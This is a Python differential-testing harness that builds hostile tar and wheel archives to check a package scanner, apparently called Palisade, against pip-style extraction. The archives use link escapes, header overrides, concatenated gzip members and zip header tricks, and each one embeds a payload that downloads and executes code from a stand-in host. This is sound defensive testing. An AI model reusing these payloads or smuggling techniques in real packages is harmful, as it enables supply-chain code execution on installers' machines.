"""Differential testing of Palisade's archive walker against the tools that install packages.

`python_view(path)` extracts an archive the way installers do (Python's `tarfile` with the
`data` filter, as pip builds sdists; `zipfile` with pip's refusal of paths that leave the
target) into a scratch folder and lists every regular file reachable there, links followed:
`{path: (size, sha256)}`, or `None` when extraction refuses the archive.

`palisade_views(binary, paths)` asks `palisade inspect --json` what Palisade's walker yields for
the same archives.

`compare(py, pal)` applies the rule: when Palisade calls an archive complete, what it lists must
be exactly what Python extracts; Palisade may always refuse instead.

`Generator` makes hostile archives: the attacks of the hostile-input review, and random
structures (members, links, repeated names, gzip members, trailing data, zip header games)
from a seed. Nothing here runs or installs anything from an archive: extraction only.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import random
import shutil
import struct
import subprocess
import tarfile
import tempfile
import zipfile
import zlib
from pathlib import Path

TAR_SUFFIXES = (".tar.gz", ".tgz", ".tar.bz2", ".tar")
ZIP_SUFFIXES = (".whl", ".zip")


def _listing(root: Path) -> dict[str, tuple[int, str]]:
    out: dict[str, tuple[int, str]] = {}
    # Follow links to folders, but never into a folder already being listed (a loop).
    stack: list[tuple[Path, str, tuple[str, ...]]] = [(root, "", (os.path.realpath(root),))]
    while stack:
        folder, rel, ancestors = stack.pop()
        try:
            names = sorted(os.listdir(folder))
        except OSError:
            continue
        for name in names:
            full = folder / name
            path = f"{rel}{name}"
            if os.path.isdir(full):
                real = os.path.realpath(full)
                if real in ancestors:
                    out[f"{path}/<loop>"] = (0, "")
                    continue
                stack.append((full, f"{path}/", ancestors + (real,)))
            elif os.path.isfile(full):
                data = full.read_bytes()
                out[path] = (len(data), hashlib.sha256(data).hexdigest())
    return out


def _extract_zip(path: Path, dest: Path) -> None:
    # pip's wheel installer: every name from the central directory (zipfile's view), refused
    # when it would land outside the target; later copies of a name overwrite earlier ones.
    with zipfile.ZipFile(path) as zf:
        for info in zf.infolist():
            name = info.filename
            target = os.path.realpath(dest / name)
            if not (target == os.path.realpath(dest) or target.startswith(os.path.realpath(dest) + os.sep)):
                raise ValueError(f"{name!r} is outside the target")
            if name.endswith("/"):
                os.makedirs(target, exist_ok=True)
                continue
            os.makedirs(os.path.dirname(target), exist_ok=True)
            with zf.open(info) as src, open(target, "wb") as out:
                shutil.copyfileobj(src, out)


def python_view(path: Path) -> dict[str, tuple[int, str]] | None:
    name = path.name.lower()
    with tempfile.TemporaryDirectory(prefix="oracle-") as tmp:
        dest = Path(tmp) / "x"
        dest.mkdir()
        try:
            if name.endswith(ZIP_SUFFIXES):
                _extract_zip(path, dest)
            else:
                with tarfile.open(path, "r:*") as tf:
                    tf.extractall(dest, filter="data")
        except (tarfile.TarError, zipfile.BadZipFile, OSError, EOFError, zlib.error, ValueError, KeyError,
                UnicodeDecodeError, NotImplementedError, RuntimeError, LookupError):
            return None
        return _listing(dest)


def palisade_views(binary: Path, paths: list[Path]) -> list[dict]:
    """One `palisade inspect --json` object per path, in order."""
    if not paths:
        return []
    proc = subprocess.run([str(binary), "inspect", "--json", *map(str, paths)], capture_output=True, text=True, timeout=600)
    if proc.returncode not in (0, 1):
        raise AssertionError(f"palisade inspect failed ({proc.returncode}): {proc.stderr}")
    views = [json.loads(line) for line in proc.stdout.splitlines() if line.strip()]
    assert len(views) == len(paths), proc.stderr
    return views


def palisade_listing(view: dict) -> dict[str, tuple[int, str]]:
    return {m["path"]: (m["size"], m["sha256"]) for m in view["members"] if "!" not in m["path"]}


def compare(py: dict | None, pal: dict) -> str | None:
    """None when the two agree (or Palisade refused); otherwise what differs."""
    if not pal["complete"]:
        return None
    if py is None:
        return "Python refuses to extract this archive but Palisade calls it complete"
    mine = palisade_listing(pal)
    if mine == py:
        return None
    only_py = sorted(set(py) - set(mine))
    only_pal = sorted(set(mine) - set(py))
    changed = sorted(p for p in set(py) & set(mine) if py[p] != mine[p])
    return f"only extracted by Python: {only_py[:10]}; only listed by Palisade: {only_pal[:10]}; different content: {changed[:10]}"


# ---- archive construction -------------------------------------------------------------------

def tar_bytes(members: list[tuple], end_marker: bool = True, fmt: int = tarfile.GNU_FORMAT,
              global_pax: dict | None = None) -> bytes:
    """A raw tar from `(name, kind, payload)`: kind is "file" (payload bytes), "dir",
    "symlink"/"hardlink" (payload the target), "fifo"; or `(name, "file", data, pax)` with pax
    headers for that member."""
    raw = io.BytesIO()
    tf = tarfile.open(fileobj=raw, mode="w", format=fmt, pax_headers=global_pax or {})
    for m in members:
        name, kind, payload = m[0], m[1], m[2]
        info = tarfile.TarInfo(name)
        info.mtime = 1_700_000_000
        if len(m) > 3:
            info.pax_headers = m[3]
        if kind == "file":
            info.size = len(payload)
            info.mode = 0o644
            tf.addfile(info, io.BytesIO(payload))
        elif kind == "dir":
            info.type = tarfile.DIRTYPE
            info.mode = 0o755
            tf.addfile(info)
        elif kind in ("symlink", "hardlink"):
            info.type = tarfile.SYMTYPE if kind == "symlink" else tarfile.LNKTYPE
            info.linkname = payload
            tf.addfile(info)
        elif kind == "fifo":
            info.type = tarfile.FIFOTYPE
            tf.addfile(info)
        elif kind in ("pax", "global-pax"):
            # Raw pax records (repeated keys allowed), written as their own entry.
            info.type = tarfile.XHDTYPE if kind == "pax" else tarfile.XGLTYPE
            info.size = len(payload)
            tf.addfile(info, io.BytesIO(payload))
        elif kind == "sparse":
            info.type = tarfile.GNUTYPE_SPARSE
            info.size = len(payload)
            tf.addfile(info, io.BytesIO(payload))
    tf.close()
    data = raw.getvalue()
    if not end_marker:
        # tarfile writes two zero blocks, then pads to a 10 KiB record.
        data = data.rstrip(b"\0")
        data += b"\0" * (-len(data) % 512)
    return data


def pax_records(*pairs: tuple[str, str]) -> bytes:
    out = b""
    for k, v in pairs:
        body = f" {k}={v}\n".encode()
        n = len(body) + 1
        while len(str(n)) + len(body) != n:
            n = len(str(n)) + len(body)
        out += str(n).encode() + body
    return out


def gz(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def zip_bytes(members: list[tuple[str, bytes]], *, local_names: dict[str, str] | None = None,
              unicode_paths: dict[str, str] | None = None, prefix: bytes = b"") -> bytes:
    """A zip; `local_names` renames members in their local headers only (same length), and
    `unicode_paths` adds an Info-ZIP Unicode Path field naming the member otherwise."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            if unicode_paths and name in unicode_paths:
                other = unicode_paths[name].encode()
                field = struct.pack("<B I", 1, zlib.crc32(name.encode())) + other
                info.extra = struct.pack("<HH", 0x7075, len(field)) + field
            zf.writestr(info, data)
    data = buf.getvalue()
    for old, new in (local_names or {}).items():
        assert len(old) == len(new)
        at = data.index(old.encode())  # the first occurrence is the local header
        data = data[:at] + new.encode() + data[at + len(old):]
    if prefix:
        # A stub before the archive (as in self-extracting zips): offsets are relative to the
        # end, which both readers accept.
        data = prefix + data
    return data


STAGE2 = b'import urllib.request\nexec(urllib.request.urlopen("http://evil.invalid/stage2.py").read())\n'
PKG_INFO = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"


# ---- byte-level constructions: headers the writers above would never produce ----------------

def _pad(b: bytes) -> bytes:
    return b + b"\0" * (-len(b) % 512)


def raw_member(name: str, data: bytes = b"", typ: bytes = tarfile.REGTYPE, size: int | None = None,
               linkname: str = "", fmt: int = tarfile.USTAR_FORMAT) -> bytes:
    """One header (with `size` possibly lying about the data that follows) and its data."""
    info = tarfile.TarInfo(name)
    info.type = typ
    info.size = len(data) if size is None else size
    info.mode = 0o644
    info.linkname = linkname
    info.mtime = 1_700_000_000
    return info.tobuf(format=fmt) + _pad(data)


def with_checksum(header: bytearray) -> bytes:
    header[148:156] = b"        "
    header[148:156] = b"%06o\0 " % sum(header[:512])
    return bytes(header)


def data_in_a_folder(root: str, payload: bytes, typ: bytes = tarfile.DIRTYPE) -> bytes:
    """A folder (or link) header whose size covers a whole member: tarfile reads that member,
    the tar crate skips it as the folder's data."""
    hidden = raw_member(f"{root}/setup.py", payload)
    link = "PKG-INFO" if typ == tarfile.SYMTYPE else ""
    return raw_member(f"{root}/docs", typ=typ, size=len(hidden), linkname=link) + hidden


def pax_and_gnu_names(root: str, payload: bytes) -> bytes:
    """A pax `path` and a GNU long name for one member: tarfile takes the pax path."""
    pax = tarfile.TarInfo._create_pax_generic_header({"path": f"{root}/setup.py"}, tarfile.XHDTYPE, "utf-8")
    gnu = tarfile.TarInfo._create_gnu_long_header(f"{root}/docs/" + "n" * 120 + ".txt", tarfile.GNUTYPE_LONGNAME, "utf-8", "strict")
    return pax + gnu + raw_member(f"{root}/short.txt", payload, fmt=tarfile.GNU_FORMAT)


def gnu_prefix(root: str, payload: bytes) -> bytes:
    """A GNU header with bytes in the ustar prefix field: tarfile prepends them to the name."""
    h = bytearray(raw_member(f"{root}/x.py", payload, fmt=tarfile.GNU_FORMAT))
    h[345:345 + len(f"{root}/hidden")] = f"{root}/hidden".encode()
    return with_checksum(h[:512]) + bytes(h[512:])


def undercounted_zip(members: list[tuple[str, bytes]]) -> bytes:
    """A zip whose end record counts one member less than its central directory holds: the zip
    crate stops at the count, zipfile reads the whole directory."""
    d = bytearray(zip_bytes(members))
    e = d.rfind(b"PK\x05\x06")
    n = struct.unpack_from("<H", d, e + 10)[0]
    struct.pack_into("<HH", d, e + 8, n - 1, n - 1)
    return bytes(d)


def gzip_carrying_a_wheel(wheel: bytes, root: str) -> bytes:
    """A `.tar.gz` whose member is a whole wheel, stored uncompressed and placed so that the
    wheel's end record is also the file's: zipfile opens the wheel, a gzip reader the tar."""
    tar = raw_member(f"{root}/blob.dat", wheel) + b"\0" * 1024
    out = bytearray([0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 0xFF])
    chunks = [tar[i:i + 65535] for i in range(0, len(tar), 65535)]
    for i, c in enumerate(chunks):
        out += bytes([1 if i == len(chunks) - 1 else 0]) + struct.pack("<HH", len(c), 0xFFFF ^ len(c)) + c
    out += struct.pack("<II", zlib.crc32(tar), len(tar) & 0xFFFFFFFF)
    # Extend the wheel's comment over what follows it (tar padding, gzip trailer).
    at = out.rfind(b"PK\x05\x06")
    struct.pack_into("<H", out, at + 20, len(out) - (at + 22))
    return bytes(out)


def hostile_archives() -> dict[str, bytes]:
    """Each attack of the hostile-input review, and neighbours of it, by a descriptive name
    (the name's suffix is the archive format)."""
    r = "demo-1.0"
    base = [(f"{r}/PKG-INFO", "file", PKG_INFO)]
    out: dict[str, bytes] = {}
    out["plain.tar.gz"] = gz(tar_bytes(base + [(f"{r}/setup.py", "file", b"from setuptools import setup\nsetup()\n")]))
    out["setup-symlink-to-notes.tar.gz"] = gz(tar_bytes(base + [(f"{r}/docs/notes.txt", "file", STAGE2), (f"{r}/setup.py", "symlink", "docs/notes.txt")]))
    out["setup-hardlink-to-notes.tar.gz"] = gz(tar_bytes(base + [(f"{r}/docs/notes.txt", "file", STAGE2), (f"{r}/setup.py", "hardlink", f"{r}/docs/notes.txt")]))
    out["setup-then-symlink-same-name.tar.gz"] = gz(tar_bytes(base + [
        (f"{r}/docs/notes.txt", "file", STAGE2), (f"{r}/setup.py", "file", b"harmless\n"), (f"{r}/setup.py", "symlink", "docs/notes.txt")]))
    out["link-chain-up.tar.gz"] = gz(tar_bytes(base + [
        (f"{r}/up", "symlink", ".."), (f"{r}/up2", "symlink", "up/.."), (f"{r}/up3", "symlink", "up2/.."), (f"{r}/up3/escaped.txt", "file", b"x")]))
    out["link-absolute.tar.gz"] = gz(tar_bytes(base + [(f"{r}/passwd", "symlink", "/etc/passwd")]))
    out["link-to-folder.tar.gz"] = gz(tar_bytes(base + [(f"{r}/src/mod.py", "file", STAGE2), (f"{r}/pkg", "symlink", "src")]))
    out["link-loop.tar.gz"] = gz(tar_bytes(base + [(f"{r}/a", "symlink", "b"), (f"{r}/b", "symlink", "a")]))
    out["link-dangling.tar.gz"] = gz(tar_bytes(base + [(f"{r}/a", "symlink", "missing")]))
    out["link-later-made-to-escape.tar.gz"] = gz(tar_bytes(base + [(f"{r}/a", "symlink", "x/../.."), (f"{r}/x", "symlink", "..")]))
    out["write-through-link.tar.gz"] = gz(tar_bytes(base + [(f"{r}/src", "dir", None), (f"{r}/lib", "symlink", "src"), (f"{r}/lib/x.py", "file", STAGE2)]))
    out["hardlink-to-later.tar.gz"] = gz(tar_bytes(base + [(f"{r}/setup.py", "hardlink", f"{r}/n.txt"), (f"{r}/n.txt", "file", STAGE2)]))
    first = tar_bytes(base + [(f"{r}/setup.py", "file", b"harmless\n")], end_marker=False)
    out["gzip-second-member-replaces-setup.tar.gz"] = gz(first) + gz(tar_bytes([(f"{r}/setup.py", "file", STAGE2)]))
    out["gzip-second-member-adds-module.tar.gz"] = gz(first) + gz(tar_bytes([(f"{r}/evil.py", "file", STAGE2)]))
    out["archive-after-end-marker.tar.gz"] = gz(tar_bytes(base)) + gz(tar_bytes([(f"{r}/evil.py", "file", STAGE2)]))
    out["zero-padding-after-end.tar.gz"] = gz(tar_bytes(base) + b"\0" * 20480)
    out["garbage-after-end.tar.gz"] = gz(tar_bytes(base) + b"garbage")
    out["case-collision.tar.gz"] = gz(tar_bytes(base + [(f"{r}/setup.py", "file", b"a"), (f"{r}/SETUP.PY", "file", STAGE2)]))
    out["dot-segments.tar.gz"] = gz(tar_bytes(base + [(f"{r}/./setup.py", "file", STAGE2), (f"{r}//x//y.py", "file", b"y")]))
    out["absolute-path.tar.gz"] = gz(tar_bytes(base + [(f"/{r}/setup.py", "file", STAGE2)]))
    out["parent-path.tar.gz"] = gz(tar_bytes(base + [(f"{r}/../evil.py", "file", STAGE2)]))
    out["fifo.tar.gz"] = gz(tar_bytes(base + [(f"{r}/fifo", "fifo", None)]))
    out["pax-path-override.tar.gz"] = gz(tar_bytes(base + [(f"{r}/notes.txt", "file", STAGE2, {"path": f"{r}/setup.py"})], fmt=tarfile.PAX_FORMAT))
    out["pax-global-path.tar.gz"] = gz(tar_bytes(base + [(f"{r}/notes.txt", "file", STAGE2)], fmt=tarfile.PAX_FORMAT, global_pax={"path": f"{r}/setup.py"}))
    out["pax-size-override.tar.gz"] = gz(tar_bytes(base + [(f"{r}/setup.py", "file", STAGE2, {"size": str(len(STAGE2))})], fmt=tarfile.PAX_FORMAT))
    out["pax-linkpath-override.tar.gz"] = gz(tar_bytes(base + [(f"{r}/n.txt", "file", STAGE2), (f"{r}/setup.py", "symlink", "other", {"linkpath": "n.txt"})], fmt=tarfile.PAX_FORMAT))
    out["pax-repeated-path.tar.gz"] = gz(tar_bytes(base + [
        ("pax", "pax", pax_records(("path", f"{r}/notes.txt"), ("path", f"{r}/setup.py"))), (f"{r}/x.txt", "file", STAGE2)], fmt=tarfile.USTAR_FORMAT))
    out["pax-sparse-name.tar.gz"] = gz(tar_bytes(base + [
        ("pax", "pax", pax_records(("GNU.sparse.name", f"{r}/setup.py"))), (f"{r}/notes.txt", "file", STAGE2)], fmt=tarfile.USTAR_FORMAT))
    out["pax-global-comment.tar.gz"] = gz(tar_bytes(base + [
        ("pax_global_header", "global-pax", pax_records(("comment", "0123abcd"))), (f"{r}/setup.py", "file", b"ok")], fmt=tarfile.USTAR_FORMAT))
    out["gnu-sparse-member.tar.gz"] = gz(tar_bytes(base + [(f"{r}/setup.py", "sparse", STAGE2)]))
    out["gnu-long-name.tar.gz"] = gz(tar_bytes(base + [(f"{r}/" + "d" * 120 + "/setup.py", "file", STAGE2)]))
    out["file-below-file.tar.gz"] = gz(tar_bytes(base + [(f"{r}/a", "file", b"a"), (f"{r}/a/b.py", "file", b"b")]))
    out["bzip2.tar.bz2"] = _bz2(tar_bytes(base + [(f"{r}/setup.py", "file", STAGE2)]))
    out["plain.tar"] = tar_bytes(base + [(f"{r}/setup.py", "file", STAGE2)])
    head = raw_member(f"{r}/PKG-INFO", PKG_INFO) + raw_member(f"{r}/setup.py", b"harmless\n")
    out["folder-with-data-hides-setup.tar.gz"] = gz(head + data_in_a_folder(r, STAGE2) + b"\0" * 1024)
    out["symlink-with-data-hides-setup.tar.gz"] = gz(head + data_in_a_folder(r, STAGE2, tarfile.SYMTYPE) + b"\0" * 1024)
    out["pax-path-and-gnu-long-name.tar.gz"] = gz(raw_member(f"{r}/PKG-INFO", PKG_INFO) + pax_and_gnu_names(r, STAGE2) + b"\0" * 1024)
    out["gnu-prefix-field.tar.gz"] = gz(raw_member(f"{r}/PKG-INFO", PKG_INFO) + gnu_prefix(r, b"print(1)\n") + b"\0" * 1024)
    w = "demo-1.0.dist-info"
    wbase = [(f"{w}/METADATA", PKG_INFO), (f"{w}/WHEEL", b"Wheel-Version: 1.0\n"), (f"{w}/RECORD", b"")]
    out["zip-end-record-undercounts.whl"] = undercounted_zip(wbase + [("demo/__init__.py", b""), ("zcount_init.pth", STAGE2)])
    out["gzip-carrying-a-wheel.whl"] = gzip_carrying_a_wheel(zip_bytes(wbase + [("evil.pth", STAGE2)]), r)
    out["plain.whl"] = zip_bytes(wbase + [("demo/__init__.py", b"")])
    out["zip-local-header-pth.whl"] = zip_bytes(wbase + [("tests/helper_data_0001.py", STAGE2)],
                                                local_names={"tests/helper_data_0001.py": "zzzzzzzzzzzz_hidden00.pth"})
    out["zip-unicode-path.whl"] = zip_bytes(wbase + [("demo/__init__.py", STAGE2)], unicode_paths={"demo/__init__.py": "demo/__INIT__.PY"})
    out["zip-duplicate-name.whl"] = _zip_dup(wbase)
    out["zip-traversal.whl"] = zip_bytes(wbase + [("../evil.pth", STAGE2)])
    out["zip-file-and-folder.whl"] = zip_bytes(wbase + [("demo/x", b"file"), ("demo/x/y.py", b"below")])
    out["zip-prepended-stub.whl"] = zip_bytes(wbase + [("demo/__init__.py", b"ok")], prefix=b"#!/bin/sh\necho stub\n")
    out["zip-dot-segments.whl"] = zip_bytes(wbase + [("demo/./a.py", b"a"), ("demo//b.py", b"b")])
    return out


def _bz2(data: bytes) -> bytes:
    import bz2
    return bz2.compress(data)


def _zip_dup(base: list[tuple[str, bytes]]) -> bytes:
    import warnings
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buf, "w") as zf:
            for n, d in base:
                zf.writestr(n, d)
            zf.writestr("demo/__init__.py", b"harmless")
            zf.writestr("demo/__init__.py", STAGE2)
    return buf.getvalue()


class Generator:
    """Random archives from a seed, built from a small vocabulary so that names collide, links
    point at each other and folders nest."""

    NAMES = ["a", "b", "c", "setup.py", "x.pth", "__init__.py", "docs", "sub", "A", "SETUP.PY"]
    TARGETS = ["a", "b", "sub", "sub/a", "..", ".", "../..", "../a", "docs/a", "/etc/passwd", "c/../a", "missing", "sub/.."]

    def __init__(self, seed: int):
        self.rng = random.Random(seed)

    def name(self) -> str:
        depth = self.rng.choice([1, 1, 2, 2, 3])
        parts = [self.rng.choice(self.NAMES) for _ in range(depth)]
        if self.rng.random() < 0.05:
            parts.insert(self.rng.randrange(len(parts)), self.rng.choice([".", ""]))
        return "demo-1.0/" + "/".join(parts)

    def tar(self) -> tuple[str, bytes]:
        members: list[tuple] = [("demo-1.0/PKG-INFO", "file", PKG_INFO)]
        for _ in range(self.rng.randint(1, 8)):
            kind = self.rng.choices(["file", "dir", "symlink", "hardlink"], weights=[5, 2, 3, 1])[0]
            name = self.name()
            if kind == "file":
                members.append((name, kind, self.rng.choice([b"", b"one", STAGE2, os.urandom(self.rng.randint(1, 600))])))
            elif kind == "dir":
                members.append((name, kind, None))
            elif kind == "symlink":
                members.append((name, kind, self.rng.choice(self.TARGETS)))
            else:
                members.append((name, kind, self.rng.choice([m[0] for m in members])))
        if self.rng.random() < 0.2:
            return "demo-1.0.tar.gz", gz(self.raw_tar(members))
        roll = self.rng.random()
        if roll < 0.15:
            cut = self.rng.randrange(1, len(members) + 1)
            data = gz(tar_bytes(members[:cut], end_marker=False)) + gz(tar_bytes(members[cut:]))
        elif roll < 0.2:
            data = gz(tar_bytes(members) + self.rng.choice([b"\0" * 512, b"tail", gz(b"x")]))
        elif roll < 0.25:
            data = tar_bytes(members)
            return "demo-1.0.tar", data
        else:
            data = gz(tar_bytes(members, fmt=self.rng.choice([tarfile.GNU_FORMAT, tarfile.PAX_FORMAT, tarfile.USTAR_FORMAT])))
        return "demo-1.0.tar.gz", data

    def raw_tar(self, members: list[tuple]) -> bytes:
        """The members written header by header, some with a lie in them: a size on a folder or
        link, a pax record or GNU long name in front, a prefix field, a wrong pax size."""
        out = b""
        for name, kind, payload in members:
            roll = self.rng.random()
            typ = {"file": tarfile.REGTYPE, "dir": tarfile.DIRTYPE, "symlink": tarfile.SYMTYPE, "hardlink": tarfile.LNKTYPE}[kind]
            data = payload if kind == "file" else b""
            link = payload if kind in ("symlink", "hardlink") else ""
            if roll < 0.1 and kind != "file":
                inner = raw_member(self.name(), self.rng.choice([STAGE2, b"x"]))
                out += raw_member(name, typ=typ, size=len(inner), linkname=link) + inner
                continue
            if roll < 0.2:
                keys = {self.rng.choice(["path", "linkpath", "size", "comment"]): self.rng.choice([self.name(), "7", "0"])}
                out += tarfile.TarInfo._create_pax_generic_header(keys, tarfile.XHDTYPE, "utf-8")
            if roll < 0.3 and roll >= 0.2:
                out += tarfile.TarInfo._create_gnu_long_header(self.name(), tarfile.GNUTYPE_LONGNAME, "utf-8", "strict")
            member = raw_member(name, data, typ=typ, linkname=link, fmt=self.rng.choice([tarfile.USTAR_FORMAT, tarfile.GNU_FORMAT]))
            if 0.3 <= roll < 0.35:
                h = bytearray(member[:512])
                h[345:348] = b"pre"
                member = with_checksum(h) + member[512:]
            out += member
        return out + b"\0" * 1024

    def zip(self) -> tuple[str, bytes]:
        w = "demo-1.0.dist-info"
        members = [(f"{w}/METADATA", PKG_INFO), (f"{w}/WHEEL", b"Wheel-Version: 1.0\n"), (f"{w}/RECORD", b"")]
        for _ in range(self.rng.randint(1, 6)):
            name = self.name().removeprefix("demo-1.0/")
            if self.rng.random() < 0.15:
                name += "/"
            members.append((name, b"" if name.endswith("/") else self.rng.choice([b"x", STAGE2])))
        local, uni = {}, {}
        victim = self.rng.choice(members[3:])[0]
        roll = self.rng.random()
        if roll < 0.1 and len(victim) > 1:
            local[victim] = victim[:-1] + ("Z" if victim[-1] != "Z" else "Y")
        elif roll < 0.2 and not victim.endswith("/"):
            uni[victim] = victim.upper()
        import warnings
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            if self.rng.random() < 0.1:
                return "demo-1.0-py3-none-any.whl", undercounted_zip(members)
            try:
                return "demo-1.0-py3-none-any.whl", zip_bytes(members, local_names=local, unicode_paths=uni)
            except (ValueError, AssertionError):
                return "demo-1.0-py3-none-any.whl", zip_bytes(members)

    def archive(self) -> tuple[str, bytes]:
        return self.tar() if self.rng.random() < 0.7 else self.zip()


def check_all(binary: Path, files: list[Path]) -> tuple[list[str], dict[str, int]]:
    """Compares Palisade and Python on every file; returns the disagreements and counts."""
    views = palisade_views(binary, files)
    problems, counts = [], {"agree": 0, "palisade_refused": 0, "both_refused": 0}
    for path, view in zip(files, views):
        py = python_view(path)
        diff = compare(py, view)
        if diff:
            problems.append(f"{path.name}: {diff}")
        elif not view["complete"]:
            counts["both_refused" if py is None else "palisade_refused"] += 1
        else:
            counts["agree"] += 1
    return problems, counts
